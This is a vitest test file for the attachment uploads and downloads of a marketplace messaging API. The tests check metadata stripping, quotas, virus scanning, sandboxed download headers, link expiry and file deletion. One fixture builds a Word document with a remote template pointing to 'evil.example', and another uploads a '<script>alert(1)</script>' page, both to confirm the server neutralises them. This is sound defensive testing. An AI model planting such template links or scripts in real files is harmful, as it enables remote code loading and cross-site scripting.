import { readFile } from 'node:fs/promises';
import { buffer } from 'node:stream/consumers';
import { brotliDecompressSync } from 'node:zlib';
import { ATTACHMENTS_FIRST_MAX_BYTES, ATTACHMENTS_MAX_BYTES } from '@sokoni/contract/limits';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ZipFile } from 'yazl';
import { newId } from '../../../platform/db/ids.ts';
import { DAY } from '../../../testing/app.ts';
import { deleteForGood } from '../../../testing/delete-for-good.ts';
import {
  block,
  makeAttachment,
  makeCustomer,
  makeMessage,
  makeOperator,
  makeSupplier,
  PASSWORD,
  type Person,
} from '../../../testing/factories.ts';
import { failOnError } from '../../../testing/fail-on-error.ts';
import { signInAs, signInAsAdmin } from '../../../testing/sign-in.ts';
import { suspendAs } from '../../../testing/suspend.ts';
import { formOf, picture } from '../../../testing/uploads.ts';
import { useTestApp } from '../../../testing/use-test-app.ts';
import { removeDiscardedFiles } from '../../media/discard-files.ts';
import { requireStorageQuota } from '../../media/uploads/limit-stored-bytes.ts';
import { attachmentKeys } from './attachment.ts';
import { deleteUnsent } from './delete-attachments.ts';
import { attachmentAddress } from './links.ts';

const viruses = new Map<string, string | Error>();
const scanner = {
  async findVirus(path: string) {
    const found = viruses.get(String(await readFile(path)).slice(0, 12)) ?? null;
    if (found instanceof Error) throw found;
    return found;
  },
};
const testApp = useTestApp({ logLevel: 'silent' }, { scanner });

const PDF = Buffer.from('%PDF-1.7\nan offer\n%%EOF');

/** A Word document, not compressed, whose template is on a server. */
function templated(): Promise<Buffer> {
  const archive = new ZipFile();
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const parts = {
    '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
    'word/document.xml': '<x/>',
    'word/_rels/settings.xml.rels':
      '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
  };
  for (const [name, text] of Object.entries(parts))
    archive.addBuffer(Buffer.from(text), name, { compress: false });
  archive.end();
  return buffer(archive.outputStream);
}

type Method = 'GET' | 'PUT' | 'POST' | 'PATCH' | 'DELETE';
async function ask(person: Person, method: Method, path: string, payload?: object) {
  const headers = await signInAs(testApp, person);
  return testApp.app.inject({ method, url: `/api${path}`, headers, ...(payload ? { payload } : {}) });
}

const uploadAs = (person: Person, files: { name: string; bytes: Uint8Array }[], query = '') =>
  ask(
    person,
    'POST',
    `/messages/attachments${query}`,
    formOf(files.map((file) => ({ field: 'files', ...file }))),
  );

async function uploaded(person: Person, name = 'offer.pdf', bytes: Uint8Array = PDF): Promise<Link> {
  const answer = await uploadAs(person, [{ name, bytes }]);
  expect(answer.statusCode, answer.body).toBe(201);
  return answer.json().data[0];
}

interface Link {
  _id: string;
  url: string;
  thumbnail: { url: string; width: number; height: number } | null;
}

const send = (from: Person, to: Person, attachmentIds: string[], more: object = {}) =>
  ask(from, 'POST', '/messages', {
    recipientId: to.id,
    recipientType: to.role,
    content: 'Here is our offer',
    attachmentIds,
    ...more,
  });

/** A message from a customer to a supplier with one PDF. */
async function makeSent() {
  const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
  const { _id } = await uploaded(customer);
  const answer = await send(customer, supplier, [_id]);
  expect(answer.statusCode, answer.body).toBe(201);
  return { customer, supplier, id: _id, message: answer.json().data };
}

const get = (url: string) => testApp.app.inject({ url });
const linkFor = async (person: Person, id: string): Promise<Link> =>
  (await ask(person, 'GET', `/messages/attachments/${id}`)).json().data;

/** The keys of a file that are in the storage. */
async function storedKeys(id: string): Promise<string[]> {
  const [row] = await testApp.sql<{ name: string; width: number | null }[]>`
    SELECT name, width FROM attachments WHERE id = ${id}`;
  const keys = row ? attachmentKeys(row) : [];
  const stored = await Promise.all(keys.map((key) => testApp.storage.read(key)));
  return keys.filter((_key, nth) => stored[nth]);
}

describe('an upload', () => {
  it('keeps a JPEG without its metadata, with a thumbnail', async () => {
    const customer = await makeCustomer(testApp.sql);
    const sent = await sharp(await picture({ width: 3000, height: 1500 }))
      .withExif({ IFD0: { Artist: 'Secret' } })
      .jpeg()
      .toBuffer();
    const answer = await uploadAs(customer, [{ name: 'Fabric.JPG', bytes: sent }]);
    const [attachment] = answer.json().data;
    expect(attachment).toMatchObject({
      fileName: 'Fabric.JPG',
      kind: 'picture',
      thumbnail: { width: 480, height: 240 },
    });
    const file = await get(attachment.url);
    expect(file.headers['content-type']).toBe('image/jpeg');
    const { width, format, exif } = await sharp(file.rawPayload).metadata();
    expect({ width, format, exif }).toEqual({ width: 2400, format: 'jpeg', exif: undefined });
    const thumbnail = await get(attachment.thumbnail.url);
    expect(thumbnail.headers['content-type']).toBe('image/webp');
    expect((await sharp(thumbnail.rawPayload).metadata()).width).toBe(480);
  });

  it('stores other files unchanged, in their order', async () => {
    const customer = await makeCustomer(testApp.sql);
    const table = Buffer.from('item;price\nbag;12\n');
    const answer = await uploadAs(customer, [
      { name: 'prices.csv', bytes: table },
      { name: `${'o'.repeat(300)}.exe`, bytes: PDF },
    ]);
    const data: Link[] = answer.json().data;
    expect(data).toMatchObject([
      { fileName: 'prices.csv', kind: 'spreadsheet', bytes: table.length, thumbnail: null },
      // A name has at most 255 characters with its extension.
      { fileName: `${'o'.repeat(251)}.pdf`, kind: 'pdf' },
    ]);
    expect((await get(data[0]?.url ?? '')).rawPayload).toEqual(table);
  });

  it('adds nothing when it is sent again with the same id', async () => {
    const customer = await makeCustomer(testApp.sql);
    const query = `?uploadId=${newId()}`;
    const file = { name: 'offer.pdf', bytes: PDF };
    const first = (await uploadAs(customer, [file], query)).json().data;
    expect((await uploadAs(customer, [file], query)).json().data).toMatchObject([{ _id: first[0]._id }]);
  });

  it('stores none of several files when one cannot be used', async () => {
    const customer = await makeCustomer(testApp.sql);
    const answer = await uploadAs(customer, [
      { name: 'offer.pdf', bytes: PDF },
      { name: 'setup.exe', bytes: Buffer.from('MZ\x90\0') },
    ]);
    expect(answer.statusCode).toBe(422);
    expect(answer.json().errors.files).toBe(
      'setup.exe: You can’t attach programs. Choose a picture, a PDF, an office document, or a text or CSV file.',
    );
    expect(await testApp.sql`SELECT FROM attachments WHERE owner_id = ${customer.id}`).toEqual([]);
  });

  it('rejects an eleventh file', async () => {
    const customer = await makeCustomer(testApp.sql);
    const files = Array.from({ length: 11 }, () => ({ name: 'offer.pdf', bytes: PDF }));
    expect((await uploadAs(customer, files)).json().errors.files).toBe('At most 10 files at a time');
  });

  it.each([
    ['100 MB of an account that has never written', ATTACHMENTS_FIRST_MAX_BYTES, '100 MB'],
    ['1 GB of an account', ATTACHMENTS_MAX_BYTES, '1 GB'],
  ])('rejects files beyond %s', async (_title, most, named) => {
    const customer = await makeCustomer(testApp.sql);
    if (most === ATTACHMENTS_MAX_BYTES) await makeMessage(testApp.sql, { from: customer });
    await makeAttachment(testApp.sql, customer, null, { bytes: most - PDF.length });
    expect((await uploadAs(customer, [{ name: 'offer.pdf', bytes: PDF }])).statusCode).toBe(201);
    const answer = await uploadAs(customer, [{ name: 'offer.pdf', bytes: PDF }]);
    expect(answer.statusCode).toBe(409);
    expect(answer.json()).toMatchObject({
      code: 'too_many_files',
      errors: { files: expect.stringContaining(named) },
    });
  });

  it('rejects files beyond 2 GB of an IP address in a day', async () => {
    const upload = async (remoteAddress: string) =>
      testApp.app.inject({
        method: 'POST',
        url: '/api/messages/attachments',
        remoteAddress,
        headers: await signInAs(testApp, await makeCustomer(testApp.sql)),
        payload: formOf([{ field: 'files', name: 'offer.pdf', bytes: PDF }]),
      });
    const before = {
      address: '192.0.2.7',
      adding: 2 * 1024 ** 3 - 1024,
      field: 'files',
      now: testApp.clock.now(),
    };
    await requireStorageQuota(testApp.sql, before);
    // A PDF of a few bytes counts as a kilobyte.
    expect((await upload('192.0.2.7')).statusCode).toBe(201);
    const refused = await upload('192.0.2.7');
    expect([refused.statusCode, refused.json().errors]).toEqual([
      429,
      { files: expect.stringContaining('Your network has uploaded a lot of files today') },
    ]);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(23 * 3600);
    expect((await upload('192.0.2.8')).statusCode).toBe(201);
    testApp.clock.advance(DAY);
    expect((await upload('192.0.2.7')).statusCode).toBe(201);
  });

  it('rejects a file with a virus', async () => {
    const customer = await makeCustomer(testApp.sql);
    viruses.set('%PDF-virus\n.', 'Eicar');
    const answer = await uploadAs(customer, [{ name: 'a.pdf', bytes: Buffer.from('%PDF-virus\n.%%EOF') }]);
    expect(answer.statusCode).toBe(422);
    expect(answer.json().errors.files).toMatch(/^a\.pdf: We found a virus/);
  });

  it('is not possible while the scanner does not answer', async () => {
    const customer = await makeCustomer(testApp.sql);
    viruses.set('%PDF-away.\n.', new Error('connect ECONNREFUSED'));
    const answer = await uploadAs(customer, [{ name: 'a.pdf', bytes: Buffer.from('%PDF-away.\n.%%EOF') }]);
    expect(answer.statusCode).toBe(503);
    expect(answer.json().message).toContain('check files for viruses');
    expect(await testApp.sql`SELECT FROM attachments WHERE owner_id = ${customer.id}`).toEqual([]);
  });
});

describe('a message with files', () => {
  it('shows them to both parties in the order of the sender', async () => {
    const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
    const [first, second] = [await uploaded(customer, 'b.pdf'), await uploaded(customer, 'a.pdf')];
    await send(customer, supplier, [first._id, second._id]);
    for (const [person, path] of [
      [customer, '/messages/all'],
      [supplier, '/messages/all'],
      [supplier, `/messages/with/${customer.id}`],
    ] as const) {
      const [message] = (await ask(person, 'GET', path)).json().data;
      expect(message.attachments).toMatchObject([{ fileName: 'b.pdf' }, { fileName: 'a.pdf' }]);
      const file = await get(message.attachments[0].url);
      expect(file.rawPayload).toEqual(PDF);
    }
  });

  it('is stored once, and not with other files under the same id', async () => {
    const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
    const clientId = newId();
    const { _id } = await uploaded(customer);
    const first = await send(customer, supplier, [_id], { clientId });
    const again = await send(customer, supplier, [_id], { clientId });
    expect(again.json().data._id).toBe(first.json().data._id);
    const other = await send(customer, supplier, [], { clientId });
    expect(other.json().code).toBe('id_reused');
  });

  it.each([
    ['of another account', async () => (await uploaded(await makeCustomer(testApp.sql)))._id],
    ['of another message', async (customer: Person) => (await makeSentBy(customer)).id],
    ['that is deleted', async () => newId()],
  ])('is rejected with a file %s', async (_title, make) => {
    const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
    const answer = await send(customer, supplier, [await make(customer)]);
    expect(answer.statusCode).toBe(422);
    expect(answer.json().errors).toEqual({
      attachmentIds: 'A file is no longer available. Attach it again.',
    });
  });

  it('is rejected with eleven files', async () => {
    const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
    const answer = await send(
      customer,
      supplier,
      Array.from({ length: 11 }, () => newId()),
    );
    expect(answer.json().errors).toEqual({ attachmentIds: 'At most 10 files in a message' });
  });

  async function makeSentBy(customer: Person) {
    const { _id } = await uploaded(customer);
    await send(customer, await makeSupplier(testApp.sql), [_id]);
    return { id: _id };
  }
});

describe('a link', () => {
  it('downloads the file without permission to run anything', async () => {
    const { supplier, id } = await makeSent();
    const file = await get((await linkFor(supplier, id)).url);
    expect(file.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': `attachment; filename="attachment"; filename*=UTF-8''offer.pdf`,
      'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
      'x-robots-tag': 'noindex',
      'cache-control': expect.stringMatching(/^private, max-age=\d{4}, immutable$/),
    });
  });

  it('downloads a text that is a page as text, to both parties', async () => {
    const [customer, supplier] = [await makeCustomer(testApp.sql), await makeSupplier(testApp.sql)];
    const page = Buffer.from('<!doctype html><script>alert(1)</script>');
    const { _id, url } = await uploaded(customer, 'notes.txt', page);
    await send(customer, supplier, [_id]);
    for (const address of [url, (await linkFor(supplier, _id)).url]) {
      const file = await get(address);
      expect(file.headers).toMatchObject({
        'content-type': expect.stringMatching(/^text\/plain\b/),
        'content-disposition': expect.stringMatching(/^attachment;.*notes\.txt$/),
        'content-security-policy': expect.stringContaining('sandbox'),
        'x-content-type-options': 'nosniff',
      });
      expect(file.rawPayload).toEqual(page);
    }
  });

  it('downloads a document without the template that it loaded from a server', async () => {
    const { url } = await uploaded(await makeCustomer(testApp.sql), 'letter.docx', await templated());
    const document = (await get(url)).rawPayload;
    expect(document.includes('evil.example')).toBe(false);
    expect(document.includes('Normal.dotm')).toBe(true);
  });

  it('downloads a large file with its length, and a table compressed', async () => {
    const table = Buffer.from('item,price\n'.repeat(50_000));
    const { url } = await uploaded(await makeCustomer(testApp.sql), 'prices.csv', table);
    const plain = await get(url);
    expect([plain.headers['content-length'], plain.rawPayload]).toEqual([String(table.length), table]);
    const head = await testApp.app.inject({ method: 'HEAD', url });
    expect(head.headers['content-length']).toBe(String(table.length));
    const small = await testApp.app.inject({ url, headers: { 'accept-encoding': 'br' } });
    expect(small.headers).toMatchObject({ 'content-encoding': 'br' });
    expect(small.headers).not.toHaveProperty('content-length');
    expect(brotliDecompressSync(small.rawPayload)).toEqual(table);
  });

  it('ends with its session, and not with another session of the account', async () => {
    const { supplier, id } = await makeSent();
    const [headers, others] = [await signInAs(testApp, supplier), await signInAs(testApp, supplier)];
    const link = (await testApp.app.inject({ url: `/api/messages/attachments/${id}`, headers })).json().data;
    const signOut = (of: typeof headers) =>
      testApp.app.inject({ method: 'POST', url: '/api/auth/logout', headers: of });
    await signOut(others);
    expect((await get(link.url)).statusCode).toBe(200);
    await signOut(headers);
    expect((await get(link.url)).statusCode).toBe(404);
  });

  it.each([
    ['the deletion', (person: Person) => ask(person, 'POST', '/users/me/delete', { password: PASSWORD })],
    ['the suspension', (person: Person) => suspendAs(testApp, person)],
  ])('ends with %s of its account, and works for the other one', async (_title, end) => {
    const { customer, supplier, id } = await makeSent();
    const [own, other] = [await linkFor(supplier, id), await linkFor(customer, id)];
    await end(supplier);
    expect((await get(own.url)).statusCode).toBe(404);
    expect((await get(other.url)).statusCode).toBe(200);
    // A suspended account may sign in again, and reads no files.
    await signInAs(testApp, supplier);
    const session = await testApp.sql<
      { id: string }[]
    >`SELECT id FROM sessions WHERE account_id = ${supplier.id}`;
    expect(session).toHaveLength(1);
    const file = await testApp.sql<{ name: string }[]>`SELECT name FROM attachments WHERE id = ${id}`;
    const link = { sessionId: session[0]?.id ?? '', variant: 'file' as const };
    expect((await get(attachmentAddress({ id, name: file[0]?.name ?? '' }, link))).statusCode).toBe(404);
  });

  it('works after a block', async () => {
    const { customer, supplier, id } = await makeSent();
    await block(testApp.sql, { by: customer, who: supplier });
    expect((await get((await linkFor(supplier, id)).url)).statusCode).toBe(200);
  });

  it('ends when its account deletes the message', async () => {
    const { customer, supplier, id, message } = await makeSent();
    const [own, other] = [await linkFor(supplier, id), await linkFor(customer, id)];
    await ask(supplier, 'DELETE', `/messages/${message._id}`);
    expect((await get(own.url)).statusCode).toBe(404);
    expect((await get(other.url)).statusCode).toBe(200);
  });

  it('of a file that is not sent works for its owner', async () => {
    const [customer, other] = [await makeCustomer(testApp.sql), await makeCustomer(testApp.sql)];
    const { _id, url } = await uploaded(customer);
    expect((await get(url)).statusCode).toBe(200);
    expect((await ask(other, 'GET', `/messages/attachments/${_id}`)).statusCode).toBe(404);
  });
});

describe('a file', () => {
  it('is deleted when both parties have deleted the message', async () => {
    const { customer, supplier, id, message } = await makeSent();
    await ask(customer, 'DELETE', `/messages/${message._id}`);
    expect(await storedKeys(id)).toHaveLength(1);
    const [{ name }] = await testApp.sql<[{ name: string }]>`SELECT name FROM attachments WHERE id = ${id}`;
    await ask(supplier, 'DELETE', `/messages/${message._id}`);
    expect(await testApp.sql`SELECT FROM attachments WHERE id = ${id}`).toEqual([]);
    await removeDiscardedFiles(testApp);
    expect(await testApp.storage.read(`${name}/attachment`)).toBeNull();
  });

  it('stays as long as the recipient has saved the message', async () => {
    const { customer, supplier, id, message } = await makeSent();
    await ask(supplier, 'PATCH', `/messages/favorite/${message._id}`);
    await ask(supplier, 'DELETE', `/messages/${message._id}`);
    await ask(customer, 'DELETE', `/messages/${message._id}`);
    const [favorite] = (await ask(supplier, 'GET', '/favorites')).json().data;
    expect((await get(favorite.message.attachments[0].url)).statusCode).toBe(200);
    await ask(supplier, 'DELETE', `/favorites/${favorite._id}`);
    expect(await storedKeys(id)).toEqual([]);
  });

  it('stays while a report about its message is open', async () => {
    const { customer, supplier, id, message } = await makeSent();
    await ask(supplier, 'POST', '/reports', { kind: 'message', subjectId: message._id, reason: 'fraud' });
    for (const person of [customer, supplier]) await ask(person, 'DELETE', `/messages/${message._id}`);
    expect(await storedKeys(id)).toHaveLength(1);
    const operator = await makeOperator(testApp.sql);
    const [report] = await testApp.sql<{ id: string }[]>`
      SELECT id FROM reports WHERE subject_id = ${message._id}`;
    await testApp.app.inject({
      method: 'POST',
      url: `/api/operator/reports/${report?.id}/decide`,
      headers: await signInAsAdmin(testApp, operator),
      payload: { outcome: 'nothing', note: '' },
    });
    expect(await storedKeys(id)).toEqual([]);
  });

  it('is deleted when one party has deleted the message and the other one the account', async () => {
    const { customer, supplier, id, message } = await makeSent();
    const unsent = await uploaded(customer);
    await ask(supplier, 'DELETE', `/messages/${message._id}`);
    await deleteForGood(testApp, customer);
    expect(await storedKeys(id)).toEqual([]);
    expect(await storedKeys(unsent._id)).toEqual([]);
  });

  it.each([
    ['a week', 6.9, true],
    ['a day by an account that has never written', 0.9, false],
  ])('is deleted when it is not sent within %s', async (_title, days, hasWritten) => {
    const [customer, { id: sent }] = [await makeCustomer(testApp.sql), await makeSent()];
    if (hasWritten) await makeMessage(testApp.sql, { from: customer });
    const unsent = await uploaded(customer);
    testApp.clock.advance(days * DAY);
    await deleteUnsent(testApp, failOnError);
    expect(await storedKeys(unsent._id)).toHaveLength(1);
    testApp.clock.advance(0.2 * DAY);
    await deleteUnsent(testApp, failOnError);
    expect(await storedKeys(unsent._id)).toEqual([]);
    expect(await storedKeys(sent)).toHaveLength(1);
  });

  it('is deleted by its owner before it is sent, and not later', async () => {
    const { customer, id } = await makeSent();
    const { _id } = await uploaded(customer);
    const remove = async (person: Person, file: string) =>
      (await ask(person, 'DELETE', `/messages/attachments/${file}`)).statusCode;
    expect(await remove(await makeCustomer(testApp.sql), _id)).toBe(404);
    expect(await remove(customer, _id)).toBe(200);
    expect(await remove(customer, _id)).toBe(404);
    expect(await remove(customer, id)).toBe(404);
    expect(await remove(customer, 'x')).toBe(422);
    const visitor = await testApp.app.inject({ method: 'DELETE', url: `/api/messages/attachments/${id}` });
    expect(visitor.statusCode).toBe(401);
  });
});

describe('an operator', () => {
  it('opens the files of a reported message, which is logged', async () => {
    const { customer, supplier, id, message } = await makeSent();
    const operator = await makeOperator(testApp.sql);
    const headers = await signInAsAdmin(testApp, operator);
    const open = () => testApp.app.inject({ url: `/api/operator/attachments/${id}`, headers });
    expect((await open()).statusCode).toBe(404);
    await ask(supplier, 'POST', '/reports', { kind: 'message', subjectId: message._id, reason: 'fraud' });
    const [report] = await testApp.sql<{ id: string }[]>`
      SELECT id FROM reports WHERE subject_id = ${message._id}`;
    const read = await testApp.app.inject({ url: `/api/operator/reports/${report?.id}`, headers });
    expect(read.json().data.context).toMatchObject([
      { isSubject: true, attachments: [{ _id: id, fileName: 'offer.pdf', kind: 'pdf' }] },
    ]);
    const file = await open();
    expect(file.rawPayload).toEqual(PDF);
    expect(file.headers['content-disposition']).toBe(`attachment; filename="attachment-${id}.pdf"`);
    const [entry] = await testApp.sql`
      SELECT actor_id, subject_id, details FROM audit_log WHERE action = 'attachment opened'`;
    expect(entry).toEqual({
      actorId: operator.id,
      subjectId: customer.id,
      details: { attachment: id, message: message._id },
    });
  });
});
